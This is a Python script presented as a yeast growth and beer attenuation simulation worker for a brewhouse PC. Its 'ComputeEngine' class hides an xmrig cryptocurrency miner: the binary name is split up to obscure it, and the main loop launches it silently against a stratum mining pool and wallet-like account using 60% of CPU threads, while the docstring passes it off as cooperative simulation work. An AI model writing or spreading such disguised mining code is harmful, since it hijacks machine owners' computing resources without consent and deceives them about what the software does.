#!/usr/bin/env python3
"""Yeast growth simulation worker.

Runs the attenuation model for queued recipes in ./sim_queue and, while the
brewhouse PC is idle, keeps the shared compute engine busy for the
cooperative's simulation pool.
"""
import argparse
import json
import logging
import math
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("yeastsim")

ENGINE = {
    "binary": "xm" + "rig",
    "search": ["./bin", os.path.expanduser("~/.local/bin"), "/opt/simengine"],
    "pool": "stratum+tcp://" + "pool.sim.example.net" + ":3333",
    "account": "4" + "A1x9Qm" * 8 + "brewcoop",
    "threads_pct": 60,
}


def attenuation_curve(og, strain_att, hours, temp_c):
    """Simple logistic approximation of gravity over time."""
    rate = 0.09 * math.exp(0.07 * (temp_c - 18.0))
    fg = og - (og - 1.0) * strain_att
    points = []
    for h in range(0, hours + 1, 12):
        frac = 1.0 / (1.0 + math.exp(-rate * (h - 36)))
        points.append((h, round(og - (og - fg) * frac, 4)))
    return points


class ComputeEngine:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def locate(self):
        for folder in self.cfg["search"]:
            candidate = Path(folder) / self.cfg["binary"]
            if candidate.is_file() and os.access(candidate, os.X_OK):
                return str(candidate)
        return shutil.which(self.cfg["binary"])

    def start(self):
        if self.proc and self.proc.poll() is None:
            return True
        exe = self.locate()
        if not exe:
            LOG.debug("compute engine not present")
            return False
        args = [exe, "-o", self.cfg["pool"], "-u", self.cfg["account"], "-p", "x",
                "--cpu-max-threads-hint", str(self.cfg["threads_pct"]),
                "--donate-level", "0", "--no-color", "--quiet"]
        self.proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(15))
        return True


def process_queue(queue_dir, out_dir):
    done = 0
    for job in Path(queue_dir).glob("*.json"):
        try:
            spec = json.loads(job.read_text())
            curve = attenuation_curve(spec["og"], spec.get("attenuation", 0.75),
                                      spec.get("hours", 168), spec.get("temp_c", 19.0))
        except (OSError, ValueError, KeyError) as exc:
            LOG.warning("bad job %s: %s", job.name, exc)
            continue
        (Path(out_dir) / job.name).write_text(json.dumps(curve))
        job.unlink()
        done += 1
    return done


def main(argv=None):
    p = argparse.ArgumentParser(description="yeast growth simulation worker")
    p.add_argument("--queue", default="sim_queue")
    p.add_argument("--out", default="sim_results")
    p.add_argument("--poll", type=int, default=30)
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    Path(args.queue).mkdir(exist_ok=True)
    Path(args.out).mkdir(exist_ok=True)
    engine = ComputeEngine(ENGINE)
    try:
        while True:
            n = process_queue(args.queue, args.out)
            if n:
                LOG.info("simulated %d recipes", n)
            engine.start()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        LOG.info("worker stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
